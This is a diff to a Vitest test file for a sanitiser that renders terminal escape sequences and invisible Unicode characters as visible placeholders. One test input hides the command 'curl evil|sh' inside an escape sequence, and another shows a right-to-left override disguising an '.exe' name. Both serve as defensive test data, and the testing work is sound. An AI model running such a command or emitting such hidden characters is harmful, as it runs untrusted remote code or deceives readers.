@@ -1,10 +1,24 @@
 import { describe, expect, it } from 'vitest';
 
-import { bytesText, durationText, visible, visibleName, within } from './text';
+import { bytesText, durationText, visible, visibleName, visibleOutput, within } from './text';
 
 describe('visible', () => {
-  it('takes away what a terminal would obey', () => {
-    expect(visible('\u001b[31mred\u001b[0m \u001b]8;;http://x\u0007link\u001b]8;;\u001b\\')).toBe('red link');
+  it('leaves nothing out: a line says in the page what it says to a shell', () => {
+    expect(visible(': \u001b]; curl evil|sh; : \u0007')).toBe(': \u241b]; curl evil|sh; : \u2407');
+    expect(visible('\u001b[8mhidden\u001b[0m')).toBe('\u241b[8mhidden\u241b[0m');
+    const printable = Array.from({ length: 95 }, (_, at) => String.fromCharCode(32 + at)).join('');
+    for (let code = 0; code < 0x300; ++code) {
+      const told = visible(`${String.fromCharCode(code)}${printable}`);
+      expect(told.endsWith(printable), `U+${code.toString(16)}`).toBe(true);
+    }
+  });
+  it('shows what lies beyond the first plane, and fillers', () => {
+    expect(visible('a\u{e0041}\u{e0101}\u3164\ufe01b')).toBe('a\u27e8U+E0041\u27e9\u27e8U+E0101\u27e9\u27e8U+3164\u27e9\u27e8U+FE01\u27e9b');
+    expect(visible('x\ufe0f')).toBe('x\u27e8U+FE0F\u27e9');
+    expect(visible('\u2764\ufe0f \u{1f468}\u200d\u{1f469}')).toBe('\u2764\ufe0f \u{1f468}\u200d\u{1f469}');
+  });
+  it('leaves out the colours of what a program wrote, and nothing else', () => {
+    expect(visibleOutput('\u001b[1;31mred\u001b[0m \u001b]0;t\u0007')).toBe('red \u241b]0;t\u2407');
   });
   it('shows what a reader would not see', () => {
     expect(visible('a\u202egnp.exe')).toBe('a\u27e8U+202E\u27e9gnp.exe');
